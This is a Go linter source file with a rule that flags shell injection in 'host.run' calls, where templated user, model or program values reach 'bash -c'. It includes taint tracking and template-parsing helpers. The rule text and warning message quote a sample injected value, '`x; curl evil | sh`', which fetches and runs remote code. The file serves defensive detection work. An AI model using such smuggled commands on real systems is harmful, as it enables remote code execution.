package lint

import (
	"fmt"
	"maps"
	"slices"
	"strconv"
	"strings"

	"kitsoki/pkg/diag"
	"kitsoki/pkg/story"
)

var ruleShellInjection = &Rule{ID: "shell-injection", Severity: diag.Warning, LintOnly: true,
	Summary: "a host.run in shell mode (no args:, or shell: true) whose cmd: or args: holds a {{ }} template reading a value a user, a model or another program controls (slots.*, event.*, inbox, result.*, world.last_error, world.host_error, world.last_job_result, or a world key bound from a host or agent call or set from such a value; a world key as the import fold scopes it, so a child's declared key is its own): bash -c parses that value as shell, so a value like `x; curl evil | sh` runs. Pass it through env: and quote the variable in the command, or run in argv mode (args: without shell: true). The script a shell's -c runs in argv mode (cmd: bash, args: [-c, SCRIPT]) is checked the same way. Templates in env:, stdin: and cwd: are not checked. A slot with values: read in its own intent's arc is trusted (a run refuses any other value), unless an emit_intent gives it a template; an integer, number or boolean slot is not (its type is checked only under run --strict)",
	Example: "- invoke: host.run\n  with: {cmd: \"echo {{ slots.text }}\"}"}

// checkShellInjection warns at each untrusted read inside the line a
// shell-mode host.run gives bash -c (ruleShellInjection).
func checkShellInjection(c *checker) {
	if c.expanded {
		return // the unexpanded check saw the same calls
	}
	c.eachEffect(func(e *story.Effect, site effSite) {
		if e.Invoke != "host.run" || e.With == nil || site.Inline {
			return
		}
		mode, shell := runShellMode(e.With)
		if !shell {
			if i, script, ok := shellScriptArg(e.With); ok {
				how := "host.run's " + e.With["cmd"].(string) + " -c runs args[" + strconv.Itoa(i) + "] as a shell script"
				c.shellScalar(e, site, how, operandFix, "args["+strconv.Itoa(i)+"]", script)
			}
			return
		}
		scalars := [][2]string{}
		if s, ok := e.With["cmd"].(string); ok {
			scalars = append(scalars, [2]string{"cmd:", s})
		}
		if args, ok := e.With["args"].([]any); ok {
			for i, a := range args {
				if s, ok := a.(string); ok {
					scalars = append(scalars, [2]string{"args[" + strconv.Itoa(i) + "]", s})
				}
			}
		}
		for _, sc := range scalars {
			c.shellScalar(e, site, "host.run runs its line through bash -c ("+mode+")", argvFix, sc[0], sc[1])
		}
	})
}

// runShellMode reports whether host.run's with: runs its line through
// bash -c (pkg/host parseRunSpec) and why, for the message.
func runShellMode(with map[string]any) (mode string, shell bool) {
	raw, has := with["args"]
	if b, ok := with["shell"].(bool); ok {
		if b {
			return "shell: true", true
		}
		return "", false
	}
	if has && raw != nil {
		return "", false
	}
	return "it has no args:", true
}

// The message's second fix: argv mode, or for a shell's -c script, the
// value as an operand after it ($1).
const (
	argvFix    = "run in argv mode (args: [...] without shell: true)"
	operandFix = "pass it as an operand after the script (args: [\"-c\", \"... \\\"$1\\\"\", \"sh\", \"{{ value }}\"])"
)

// shellScript is the base names of the shells whose -c runs its operand.
var shellScript = map[string]bool{"sh": true, "bash": true, "dash": true, "zsh": true, "ksh": true, "ash": true, "mksh": true}

// shellScriptArg finds, in an argv-mode host.run whose cmd: is a shell
// (cmd: bash, args: ["-c", SCRIPT, ...]), the script -c runs: argv mode
// runs no shell of its own, but that one parses its script as shell. A
// combined flag (-ec, -lc) counts; the operands after the script are $0,
// $1... and stay data.
func shellScriptArg(with map[string]any) (int, string, bool) {
	cmd, _ := with["cmd"].(string)
	args, _ := with["args"].([]any)
	base := strings.TrimSuffix(cmd[strings.LastIndexAny(cmd, `/\`)+1:], ".exe")
	if !shellScript[base] {
		return 0, "", false
	}
	for i := 0; i < len(args); i++ {
		flag, _ := args[i].(string)
		switch {
		case flag == "-o" || flag == "+o" || flag == "-O" || flag == "+O":
			i++ // an option name follows (-o pipefail)
		case flag == "--" || !strings.HasPrefix(flag, "-") && !strings.HasPrefix(flag, "+"):
			return 0, "", false // operands begin: a script file, not -c
		case flag[0] == '-' && !strings.HasPrefix(flag, "--") && strings.Contains(flag, "c") && i+1 < len(args):
			script, ok := args[i+1].(string)
			return i + 1, script, ok
		}
	}
	return 0, "", false
}

// shellScalar reports the untrusted reads of one scalar of the shell line.
func (c *checker) shellScalar(e *story.Effect, site effSite, how, fix, field, src string) {
	if !strings.Contains(src, "{") {
		return
	}
	said := map[string]bool{}
	for _, r := range templateReads(src) {
		if said[r.text] {
			continue
		}
		what := c.untrusted(r, site.EffectPlace)
		if what == "" {
			continue
		}
		said[r.text] = true
		line, col := lineCol(src, r.off)
		name, subject := envName(r.text), r.text
		if r.root == "world" {
			subject = "world." + r.key
		}
		c.rep.Warnf(c.src.valuePos(e.WithPos(strings.TrimSuffix(field, ":")), src, line, col), ruleShellInjection,
			"%s: %s, and %s in %s puts %s into it: %s is %s, and a value like `x; curl evil | sh` runs as a command; pass it through env: (env: {%s: \"{{ %s }}\"}, and \"$%s\" double-quoted in the script) or %s",
			site.String(), how, r.tag, field, r.text, subject, what, name, r.text, name, fix)
	}
}

// untrusted says where the value of an untrusted read comes from ("" for
// a trusted one). A world read is untrusted when the folded key it names
// is, in any place the story takes in the folded tree (foldScope).
func (c *checker) untrusted(r tplRead, p *story.EffectPlace) string {
	if r.root == "slots" {
		return c.slotTrust(p, r)
	}
	if r.root != "world" {
		return untrustedRoots[r.root]
	}
	if c.src.taint == nil {
		c.src.taint = treeTaint(c.src, c.st)
	}
	tw := c.src.taint
	for _, sc := range tw.scopes[c.st] {
		if t, ok := tw.keys[sc.readKey(r)]; ok {
			return t.String()
		}
	}
	if tw.partial { // a tree the fold refuses, not walked whole: by name
		if tw.names == nil {
			tw.names = slices.Sorted(maps.Keys(tw.keys))
		}
		for _, k := range tw.names {
			if k == r.key || strings.HasSuffix(k, "__"+r.key) {
				return tw.keys[k].String()
			}
		}
	}
	return ""
}

// untrustedRoots are the template roots whose values a user, a model or
// another program gives, with what they hold.
var untrustedRoots = map[string]string{
	"slots":  "what a user typed",
	"event":  "the payload of the event that fired",
	"inbox":  "the run's notifications",
	"result": "a host or agent call's output",
}

// envName is an environment variable name for a read (slots.text: TEXT).
func envName(text string) string {
	last := text[strings.LastIndexByte(text, '.')+1:]
	b := []byte(strings.ToUpper(last))
	for i, ch := range b {
		if !(ch == '_' || ch >= 'A' && ch <= 'Z' || ch >= '0' && ch <= '9') {
			b[i] = '_'
		}
	}
	if len(b) == 0 || b[0] >= '0' && b[0] <= '9' {
		return "VALUE"
	}
	return string(b)
}

// taint is why a world key holds an untrusted value: how it is written
// (why) and, for a key set from another key, where that value came from.
type taint struct{ why, origin string }

func (t taint) String() string {
	if t.origin == "" {
		return t.why
	}
	return t.why + " (" + t.origin + ")"
}

// taintedWorld is the folded world keys of an import tree that may hold
// an untrusted value, and the places of its stories in the folded tree.
type taintedWorld struct {
	keys   map[string]taint
	scopes map[*story.Story][]*foldScope
	// partial: the tree folds past story.MaxFoldImports and its places
	// were not all listed; a read then matches a tainted key by its name
	// (names: the keys, sorted once)
	partial bool
	names   []string
}

// engineTainted are the world keys the engine sets from a call's answer
// (story-runtime §1.1; pkg/engine setError and the job's on_complete).
var engineTainted = map[string]string{
	"last_error":      "set by the engine to a failed call's error text",
	"host_error":      "set by the engine to a failed call's error",
	"last_job_result": "set by the engine to a background job's result",
}

// taintWrite is one set:, world_in: or exit set: of a folded key with
// the template reads of its value and the folded keys those name.
type taintWrite struct {
	key   string
	reads []tplRead
	keys  []string // reads[i]'s folded key (root world)
	// trusted: reads[i] (root slots) is an enum slot's value (slotTrust)
	trusted []bool
	pos     story.Pos
}

// runScalarData are host.run result fields that hold no text a command
// controls (a bool or an int).
var runScalarData = map[string]bool{"exit_code": true, "ok": true, "timed_out": true, "stdout_truncated": true}

// treeTaint works out the untrusted folded world keys of st's import
// tree: the keys the engine sets from a call's answer, every bind: target
// of a call, then, to a fixed point, every key a set:, world_in: or exit
// set: writes from an untrusted read. Keys are the fold's (foldScope): a
// child's world.x is <alias>__x where it declares x, and the importer's x
// where it does not, so taint flows exactly where the run shares a key.
func treeTaint(src *sources, st *story.Story) *taintedWorld {
	top := st
	for top.Importer() != nil {
		top = top.Importer()
	}
	scopes, complete := foldScopes(top)
	b := &taintBuilder{src: src, emits: src.slotEmits(top),
		tw: &taintedWorld{keys: map[string]taint{}, scopes: scopes, partial: !complete}}
	for k, why := range engineTainted {
		b.tw.keys[k] = taint{why: why}
	}
	for _, s := range append([]*story.Story{top}, top.Children()...) {
		b.story(s)
	}
	// each round taints at least one more key, or is the last
	for changed := true; changed; {
		changed = false
		for _, w := range b.writes {
			if _, ok := b.tw.keys[w.key]; ok {
				continue
			}
			if t, ok := b.tw.derived(w); ok {
				b.tw.keys[w.key] = t
				changed = true
			}
		}
	}
	return b.tw
}

// taintBuilder gathers treeTaint's binds and writes, story by story.
type taintBuilder struct {
	src    *sources
	emits  map[string][]emitSlot
	tw     *taintedWorld
	writes []taintWrite
}

// story adds the binds and writes of s in each of its places: its
// effects', its imports' world_in: and exits' set:.
func (b *taintBuilder) story(s *story.Story) {
	scopes := b.tw.scopes[s]
	storyEffects(b.src, s, func(p *story.EffectPlace, _ bool, over string) {
		e := p.Effect
		sets := make([][]tplRead, len(e.Set))
		for i, kv := range e.Set {
			sets[i] = valueReads(kv.Value)
		}
		for _, sc := range scopes {
			if over != "" { // an overrides: state runs in the child's scope
				if sc = sc.child(over, b.tw.scopes); sc == nil {
					continue
				}
			}
			b.binds(sc, e)
			for i, kv := range e.Set {
				b.write(sc, p, kv.Key, sets[i], kv.Pos)
			}
		}
	})
	for _, alias := range s.ImportOrder {
		im := s.Imports[alias]
		for _, kv := range im.WorldIn {
			reads := valueReads(kv.Value)
			for _, sc := range scopes {
				b.write(sc, nil, alias+"__"+kv.Key, reads, kv.Pos)
			}
		}
		for _, en := range sortedMapKeys(im.Exits) {
			for _, kv := range im.Exits[en].Set {
				reads := valueReads(kv.Value)
				for _, sc := range scopes {
					b.write(sc, nil, kv.Key, reads, kv.Pos)
				}
			}
		}
	}
}

// binds taints, in scope sc, every bind: target of e but a host.run
// field that holds no text.
func (b *taintBuilder) binds(sc *foldScope, e *story.Effect) {
	for _, kv := range e.Bind() {
		k := worldKeyOf(kv.Key)
		if v, _ := kv.Value.(string); k == "" || e.Invoke == "host.run" && runScalarData[v] {
			continue
		}
		if _, ok := b.tw.keys[sc.key(k)]; !ok {
			b.tw.keys[sc.key(k)] = taint{why: fmt.Sprintf("bound from %s at %s", cmpOr(e.Invoke, "a call"), posText(kv.Pos))}
		}
	}
}

// write records a write of key in scope sc from a value with reads
// (place: the effect's, nil for world_in: and exit set:, whose slots are
// not known).
func (b *taintBuilder) write(sc *foldScope, place *story.EffectPlace, key string, reads []tplRead, p story.Pos) {
	k := worldKeyOf(key)
	if k == "" || len(reads) == 0 {
		return
	}
	keys, trusted := make([]string, len(reads)), make([]bool, len(reads))
	for i, r := range reads {
		switch r.root {
		case "world":
			keys[i] = sc.readKey(r)
		case "slots":
			trusted[i] = slotTrust(b.src.intentDecls(sc.st), place, r, b.emits) == ""
		}
	}
	b.writes = append(b.writes, taintWrite{sc.key(k), reads, keys, trusted, p})
}

// valueReads is the template reads of every string in a written value.
func valueReads(v any) []tplRead {
	var reads []tplRead
	walkStrings(v, "", func(_, s string) {
		if strings.Contains(s, "{") {
			reads = append(reads, templateReads(s)...)
		}
	})
	return reads
}

// derived is the taint of a write's key from its value's first untrusted
// read, if it has one.
func (tw *taintedWorld) derived(w taintWrite) (taint, bool) {
	for i, r := range w.reads {
		why := fmt.Sprintf("set from %s at %s", r.text, posText(w.pos))
		if r.root != "world" {
			if w.trusted[i] {
				continue
			}
			return taint{why: why}, true
		}
		if src, ok := tw.keys[w.keys[i]]; ok {
			origin := src.origin
			if origin == "" {
				origin = "world." + r.key + " is " + src.why
			}
			return taint{why: why, origin: origin}, true
		}
	}
	return taint{}, false
}

// worldKeyOf is the world key a written name gives a value (a dotted path
// writes its first segment); "" for a name built from a template or a
// phase placeholder.
func worldKeyOf(name string) string {
	if strings.ContainsAny(name, "{}") {
		return ""
	}
	k, _, _ := strings.Cut(name, ".")
	return k
}

// posText is a source position as file:line.
func posText(p story.Pos) string {
	return p.File + ":" + strconv.Itoa(p.Line)
}

func cmpOr(s, def string) string {
	if s == "" {
		return def
	}
	return s
}

// tplRead is one read of a template root inside a {{ }} or {% %} tag.
type tplRead struct {
	off  int    // byte offset of the root's name in the scalar
	text string // the read as written: slots.text, world.title, inbox
	root string // slots, event, inbox, result or world
	key  string // the first member (for root world, the key)
	tag  string // the tag holding it, shortened for messages
	// dotted: the key follows as .key, the form the import fold rewrites
	// (world["k"] and world?.k it leaves as written)
	dotted bool
}

// templateReads lists the reads of untrusted roots and of world keys by
// name in the tags of src, in order. The condition of an {{ if }},
// {{ else if }}, {% if %} or {% elif %} is skipped: it chooses text, it
// does not put its value into the output.
func templateReads(src string) []tplRead { return tagReads(src, false) }

// tagReads is templateReads, with the conditions' reads when conditions.
func tagReads(src string, conditions bool) []tplRead {
	var out []tplRead
	for i := 0; i < len(src); {
		j := strings.IndexByte(src[i:], '{')
		if j < 0 {
			break
		}
		i += j
		rest := src[i:]
		if len(rest) < 2 || rest[1] != '{' && rest[1] != '%' && rest[1] != '#' {
			i++
			continue
		}
		closer := map[byte]string{'{': "}}", '%': "%}", '#': "#}"}[rest[1]]
		n := tagLen(rest, closer)
		if rest[1] != '#' {
			inner := strings.TrimSuffix(rest[2:n], closer)
			if conditions || !conditionTag(inner, rest[1] == '%') {
				out = innerReads(out, inner, i+2, shortTag(rest[:n]))
			}
		}
		i += n
	}
	return out
}

// tagLen is the length of the tag at the start of s up to its closer
// (quoted strings skipped), or of s when it is not closed.
func tagLen(s, closer string) int {
	for k := 2; k < len(s); {
		if e := quotedEnd(s, k); e != k {
			k = e
			continue
		}
		if strings.HasPrefix(s[k:], closer) {
			return k + len(closer)
		}
		k++
	}
	return len(s)
}

// quotedEnd is, when s[k] opens a quoted string, the index just past its
// closing quote (len(s) when it is not closed), else k.
func quotedEnd(s string, k int) int {
	q := s[k]
	if q != '"' && q != '\'' && q != '`' {
		return k
	}
	for k++; k < len(s); k++ {
		if s[k] == '\\' {
			k++
		} else if s[k] == q {
			return k + 1
		}
	}
	return len(s)
}

// conditionTag reports a tag that only tests a condition: a kitsoki
// {{ if c }} or {{ else if c }} (not an expr-lang `if c { a } else { b }`),
// a pongo2 {% if %} or {% elif %}.
func conditionTag(inner string, block bool) bool {
	t := strings.TrimSpace(strings.Trim(strings.TrimSpace(inner), "-"))
	word, rest, _ := strings.Cut(t, " ")
	rest = strings.TrimSpace(rest)
	if block {
		return word == "if" || word == "elif"
	}
	if strings.HasSuffix(t, "}") {
		return false
	}
	return word == "if" || word == "else" && strings.HasPrefix(rest, "if ")
}

// shortTag is a tag for a message, cut after 60 bytes.
func shortTag(tag string) string {
	tag = strings.ReplaceAll(tag, "\n", " ")
	if len(tag) > 60 {
		k := 57
		for k > 0 && tag[k]&0xC0 == 0x80 {
			k--
		}
		return tag[:k] + "..."
	}
	return tag
}

// innerReads appends the root reads of one tag's inner text (at offset
// base in its scalar); quoted strings are skipped.
func innerReads(out []tplRead, inner string, base int, tag string) []tplRead {
	for k := 0; k < len(inner); {
		if e := quotedEnd(inner, k); e != k {
			k = e
			continue
		}
		if !identByte(inner[k]) || k > 0 && (identByte(inner[k-1]) || inner[k-1] == '.') {
			k++
			continue
		}
		end := k
		for end < len(inner) && identByte(inner[end]) {
			end++
		}
		word, text := inner[k:end], inner[k:end]
		key, _ := memberAfter(inner[end:])
		for at := end; ; {
			m, n := memberAfter(inner[at:])
			if m == "" {
				break
			}
			text, at = text+"."+m, at+n
		}
		if word == "world" && key != "" || untrustedRoots[word] != "" {
			out = append(out, tplRead{off: base + k, text: text, root: word, key: key, tag: tag, dotted: strings.HasPrefix(inner[end:], ".")})
		}
		k = end
	}
	return out
}

// memberAfter is the member name s starts with: .name, ?.name, ["name"]
// or ['name'] ("" when none), and the length of that member access.
func memberAfter(s string) (name string, n int) {
	q := 0
	if strings.HasPrefix(s, "?") {
		q = 1
	}
	t := s[q:]
	switch {
	case strings.HasPrefix(t, "."):
		k := 1
		for k < len(t) && identByte(t[k]) {
			k++
		}
		if k > 1 && (t[1] < '0' || t[1] > '9') {
			return t[1:k], q + k
		}
	case strings.HasPrefix(t, `["`), strings.HasPrefix(t, `['`):
		if end := strings.IndexByte(t[2:], t[1]); end > 0 && strings.HasPrefix(t[2+end+1:], "]") {
			return t[2 : 2+end], q + 2 + end + 2
		}
	}
	return "", 0
}
